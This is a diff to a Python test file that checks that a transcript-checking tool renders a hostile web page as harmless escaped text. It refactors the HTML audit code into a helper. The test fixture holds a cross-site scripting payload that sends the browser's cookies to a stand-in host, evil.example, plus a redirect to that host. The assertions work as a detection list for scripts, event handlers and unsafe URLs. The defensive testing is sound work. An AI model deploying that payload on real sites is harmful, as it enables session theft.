@@ -7,7 +7,6 @@ these tests.
 
 from __future__ import annotations
 
-import html.parser
 import os
 import shutil
 import subprocess
@@ -16,7 +15,7 @@ import sys
 import numpy as np
 import pytest
 
-from helpers import assert_error, run, tone, write_audio
+from helpers import Html, assert_error, run, tone, write_audio
 from transcheck.audio import load_audio
 from transcheck.errors import AudioError
 
@@ -108,24 +107,6 @@ def test_utf16_and_windows_1252_transcripts_read(tmp_path, sample_dir):
         assert read_official(path).text == text
 
 
-class _Audit(html.parser.HTMLParser):
-    """Collects every tag, attribute and URL that could act in a browser."""
-
-    def __init__(self):
-        super().__init__()
-        self.tags, self.handlers, self.urls, self.scripts = set(), [], [], 0
-
-    def handle_starttag(self, tag, attrs):
-        self.tags.add(tag)
-        for name, value in attrs:
-            if name.startswith("on"):
-                self.handlers.append((tag, name))
-            if name in ("href", "src", "action", "formaction", "xlink:href") and value:
-                self.urls.append(value)
-        if tag == "script" and dict(attrs).get("type") != "application/json":
-            self.scripts += 1
-
-
 HOSTILE_PAGE = """<!DOCTYPE html><html><head><title>Briefing</title>
 <script>document.location='https://evil.example/?c='+document.cookie</script>
 <meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
@@ -152,13 +133,16 @@ def test_hostile_web_page_stays_text(tmp_path, recording, session_cache_dir):
                    cache=session_cache_dir)
     assert result.exit_code == 0, result.output
     report = out.read_text(encoding="utf-8")
-    audit = _Audit()
-    audit.feed(report)
-    assert audit.scripts == 1  # transcheck's own, allowed by hash
-    assert not audit.tags & {"iframe", "frame", "object", "embed", "img", "base", "form"}  # (the svg is our timeline)
-    assert audit.handlers == []
-    assert all(not u.lower().lstrip().startswith(("javascript:", "http:", "https:", "//")) for u in audit.urls)
-    assert "evil.example" not in " ".join(audit.urls)
+    audit = Html(report)
+    tags = {tag for tag, _ in audit.elements}
+    handlers = [(tag, name) for tag, attrs in audit.elements for name in attrs if name.startswith("on")]
+    urls = [value for _, attrs in audit.elements for name, value in attrs.items()
+            if name in ("href", "src", "action", "formaction", "xlink:href") and value]
+    assert len(audit.scripts()) == 1  # transcheck's own, allowed by hash
+    assert not tags & {"iframe", "frame", "object", "embed", "img", "base", "form"}  # (the svg is our timeline)
+    assert handlers == []
+    assert all(not u.lower().lstrip().startswith(("javascript:", "http:", "https:", "//")) for u in urls)
+    assert "evil.example" not in " ".join(urls)
     assert "&lt;script&gt;alert(9)&lt;/script&gt;" in report  # the title, escaped
     assert "Content-Security-Policy" in report and "default-src &#39;none&#39;" in report
 
